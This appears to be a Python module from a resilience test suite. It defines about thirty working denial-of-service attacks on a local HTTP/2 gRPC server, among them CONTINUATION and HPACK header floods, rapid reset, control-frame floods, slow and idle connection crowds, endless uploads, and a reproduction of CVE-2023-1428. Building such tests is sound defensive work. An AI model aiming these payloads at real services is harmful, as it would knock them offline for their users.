"""What a client may do to hurt a server, each for some seconds, from an
address that is not the honest clients'."""

import itertools
import select
import ssl
import struct
import time

from calls import RESERVE, WATCH, call, reserve, watch
from http2 import (ACK, CONTINUATION, Connection, DATA, END_HEADERS,
                   END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING,
                   PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
                   headers, literal, settings_of)
from server import ALLOCATION, OTHER_ROOTS

SOURCE = "127.0.0.66"
TEN_KB = [("x-%d" % i, "y" * 1000) for i in range(10)]
PAUSE = 0.02  # before the next connection once one was closed


def connect(port, hello=True):
    """None if it is closed at once."""
    try:
        return Connection(port, hello, SOURCE)
    except OSError:
        return None


class Outcome:
    """What an attack has sent, and how often a connection was closed on it."""

    def __init__(self):
        self.sent, self.closed = 0, 0

    def __iter__(self):
        return iter((self.sent, self.closed))


class OneAfterAnother:
    """A connection that is filled, and another one once it is closed."""

    def run(self, port, go_on):
        outcome = Outcome()
        while go_on():
            connection = connect(port)
            if connection is not None:
                self.fill(connection, go_on, outcome)
                connection.close()
            if go_on():
                outcome.closed += 1
                time.sleep(PAUSE)
        return outcome


class Flood(OneAfterAnother):
    """Begins with `first` and repeats `again`."""

    def __init__(self, first, again):
        self.first, self.again = first, again

    def fill(self, connection, go_on, outcome):
        if connection.send(self.first):
            while go_on() and connection.send(self.again):
                outcome.sent += len(self.again)


class Each:
    """Sends each message on a connection of its own."""

    def __init__(self, *messages):
        self.messages = messages

    def run(self, port, _):
        outcome = Outcome()
        for message in self.messages:
            connection = Connection(port, source=SOURCE)
            connection.send(message)
            outcome.sent += len(message)
            outcome.closed += "closed" in connection.received(0.2)
            connection.close()
        return outcome


class Crowd:
    """Many connections that say `first`, if anything, and then wait."""

    def __init__(self, count, first=None, hello=True):
        self.count, self.first, self.hello = count, first, hello

    def run(self, port, go_on):
        outcome, connections = Outcome(), []
        while len(connections) < self.count and go_on():
            connection = connect(port, self.hello)
            if connection is None:
                continue
            connections.append(connection)
            if self.first is not None:
                connection.send(self.first)
                outcome.sent += len(self.first)
        while go_on():
            time.sleep(0.05)
        for connection in connections:
            outcome.closed += "closed" in connection.received(0.001)
            connection.close()
        return outcome


class Handshakes(Crowd):
    """Handshakes of TLS that end after what the client says first, when the
    server has signed its part."""

    def __init__(self, count):
        super().__init__(count, self.client_hello(), hello=False)

    @staticmethod
    def client_hello():
        context = ssl.create_default_context()
        context.set_alpn_protocols(["h2"])
        out = ssl.MemoryBIO()
        client = context.wrap_bio(ssl.MemoryBIO(), out,
                                  server_hostname="127.0.0.1")
        try:
            client.do_handshake()
        except ssl.SSLWantReadError:
            pass
        return out.read()


class Callers:
    """Valid calls on the allocations in turn as fast as it goes, on a few
    connections, each with many at a time."""

    BATCH = 50  # calls that are sent before answers are looked at again

    def __init__(self, connections, at_once, *allocations):
        self.connections, self.at_once = connections, at_once
        self.allocations = allocations

    def run(self, port, go_on):
        outcome = Outcome()
        callers = [_Caller(port, self.at_once, self.allocations)
                   for _ in range(self.connections)]
        while go_on():
            for caller in callers:
                outcome.sent += caller.send(self.BATCH)
            select.select([caller.connection.socket for caller in callers
                           if caller.connection is not None], [], [], 0.01)
            for caller in callers:
                outcome.closed += caller.read()
        return outcome


class _Caller:
    """One connection of Callers."""

    def __init__(self, port, at_once, allocations):
        self.port, self.at_once = port, at_once
        self.allocations = itertools.cycle(allocations)
        self.connection = None

    def send(self, most):
        """How many bytes of calls have been sent, on a new connection if there
        is none."""
        if self.connection is None:
            self.connection = connect(self.port)
            self.stream, self.under_way = -1, 0
        if self.connection is None:
            return 0
        calls = b""
        for _ in range(min(most, self.at_once - self.under_way)):
            self.stream += 2
            self.under_way += 1
            calls += call(RESERVE, self.stream,
                          reserve(next(self.allocations)))
        self.connection.send(calls)
        return len(calls)

    def read(self):
        """Whether the connection was closed."""
        taken = 0
        while self.connection is not None:
            got = self.connection.frame(0)
            if got is None:
                break
            if got is False or got[0] == GOAWAY:
                self.connection.close()
                self.connection = None
                return True
            kind, flags, _, payload = got
            self.connection.answer(got)
            taken += len(payload) * (kind == DATA)
            self.under_way -= kind == RST_STREAM or (
                kind in (HEADERS, DATA) and flags & END_STREAM != 0)
        if taken:
            self.connection.send(frame(WINDOW_UPDATE, 0, 0,
                                       taken.to_bytes(4, "big")))
        return False


class Deaf(OneAfterAnother):
    """Valid calls without an end, and no look at what comes back."""

    def fill(self, connection, go_on, outcome):
        stream = 1
        while go_on():
            calls = b"".join(
                call(RESERVE, stream + 2 * i, reserve(OTHER_ROOTS[0]))
                for i in range(50))
            stream += 100
            if not connection.send(calls):
                return
            outcome.sent += len(calls)


class Upload(OneAfterAnother):
    """Messages that never end, on many calls at once, within the windows that
    the server opens."""

    def __init__(self, calls, declared):
        self.calls = calls
        self.head = b"\x00" + struct.pack(">I", declared)

    def fill(self, connection, go_on, outcome):
        streams = range(1, 2 * self.calls, 2)
        windows = dict.fromkeys([0, *streams], 65535)
        self.initial = 65535
        for stream in streams:
            connection.send(frame(HEADERS, END_HEADERS, stream,
                                  headers(RESERVE)))
        heads = dict.fromkeys(streams, self.head)
        while go_on():
            for stream in streams:
                room = min(windows[stream], windows[0], 16000)
                if room < 1000:
                    continue
                data = heads[stream] + b"x" * (room - len(heads[stream]))
                heads[stream] = b""
                if not connection.send(frame(DATA, 0, stream, data)):
                    return
                windows[stream] -= room
                windows[0] -= room
                outcome.sent += room
            if not self.read_windows(connection, windows):
                return

    def read_windows(self, connection, windows):
        while True:
            got = connection.frame(0.001)
            if got is None or got is False:
                return got is None
            kind, flags, stream, payload = got
            if kind == WINDOW_UPDATE and stream in windows:
                windows[stream] += int.from_bytes(payload, "big")
            elif kind == SETTINGS and not flags & ACK:
                initial = settings_of(payload).get(INITIAL_WINDOW_SIZE,
                                                   self.initial)
                for stream in windows:
                    windows[stream] += (initial - self.initial) * (stream != 0)
                self.initial = initial
            connection.answer(got)


def continuations(first, block, times=20):
    """A list of header fields that never ends."""
    return Flood(frame(HEADERS, END_STREAM, 1, headers()) +
                 frame(CONTINUATION, 0, 1, first),
                 frame(CONTINUATION, 0, 1, block) * times)


def bad_metadata():
    """The shape of CVE-2023-1428: what gRPC refuses, with over 8 KB beside."""
    for te in ("x", "trailers"):
        for scheme in ("x", "http"):
            for more in ([("grpclb_client_stats", "x")], [("lb-token", "x")],
                         []):
                yield frame(HEADERS, END_STREAM | END_HEADERS, 1,
                            headers(te=te, scheme=scheme, more=more + TEN_KB))


# gRPC bounds the fields of a frame by 8 KB, each with 32 bytes for itself: 180
# of them go into one, and a reference to a field is a single byte.
COOKIES = b"\xa0" * 180  # field 32 of the table that everybody has
LAST_FIELD = b"\xbe"     # the one that was remembered last

ATTACKS = {
    "bad_metadata": Each(*bad_metadata()),
    "endless_small_fields": continuations(b"", literal("a", "b" * 100) * 2),
    "endless_fields": continuations(b"", literal("a", "b" * 4000)),
    "endless_large_fields": continuations(b"", literal("a", "b" * 8000) * 2),
    "endless_cookies": continuations(b"", COOKIES, 500),
    "endless_references": continuations(literal("a", "b", True),
                                        LAST_FIELD * 180, 500),
    "endless_large_references": continuations(literal("a", "b" * 3900, True),
                                              LAST_FIELD * 2, 5000),
    "too_many_references": continuations(literal("a", "b" * 3900, True),
                                         LAST_FIELD * 16000),
    "endless_value": continuations(b"\x00\x01a\x7f\xff\xff\xff\x7f",
                                   b"b" * 16000),
    "endless_nothing": continuations(b"", b""),
    "endless_number": continuations(b"\x7f", b"\x80" * 16000),
    "table_sizes": continuations(b"", b"\x20" * 16000),
    "many_blocks": Crowd(1000, frame(HEADERS, END_STREAM, 1, headers()) +
                         frame(CONTINUATION, 0, 1, COOKIES) * 500),
    "rapid_reset": Flood(b"", b"".join(
        frame(HEADERS, END_HEADERS, stream, headers()) +
        frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        for stream in range(1, 2001, 2))),
    "pings": Flood(b"", frame(PING, 0, 0, b"x" * 8) * 500),
    "settings": Flood(b"", frame(SETTINGS, 0, 0,
                                 struct.pack(">HI", 3, 100)) * 500),
    "windows": Flood(b"", frame(WINDOW_UPDATE, 0, 0,
                                struct.pack(">I", 1)) * 500),
    "unknown_frames": Flood(b"", frame(0x66, 0, 0, b"x" * 16000) * 20),
    "data_without_a_call": Flood(b"", frame(DATA, 0, 1, b"x" * 16000)),
    "data_past_the_window": Flood(
        frame(HEADERS, END_HEADERS, 1, headers(RESERVE)),
        frame(DATA, 0, 1, b"\x00\x7f\xff\xff\xff" + b"x" * 15000)),
    "endless_message": Upload(1, 0x7fffffff),
    "unfinished_messages": Upload(900, (16 << 20) - 5),
    "open_streams": Each(b"".join(
        frame(HEADERS, END_HEADERS, stream, headers(RESERVE))
        for stream in range(1, 40001, 2))),
    "valid_calls": Callers(4, 900, OTHER_ROOTS[0]),
    "valid_calls_beside": Callers(4, 900, ALLOCATION),
    "valid_calls_everywhere": Callers(4, 900, *OTHER_ROOTS),
    "unread_calls": Deaf(),
    "unread_watches": Crowd(4, b"".join(
        call(WATCH, stream, watch(ALLOCATION))
        for stream in range(1, 500, 2))),
    "idle_connections": Crowd(5000),
    "unfinished_handshakes": Handshakes(1000),
    "slow_hello": Crowd(1000, PREFACE[:10], hello=False),
}
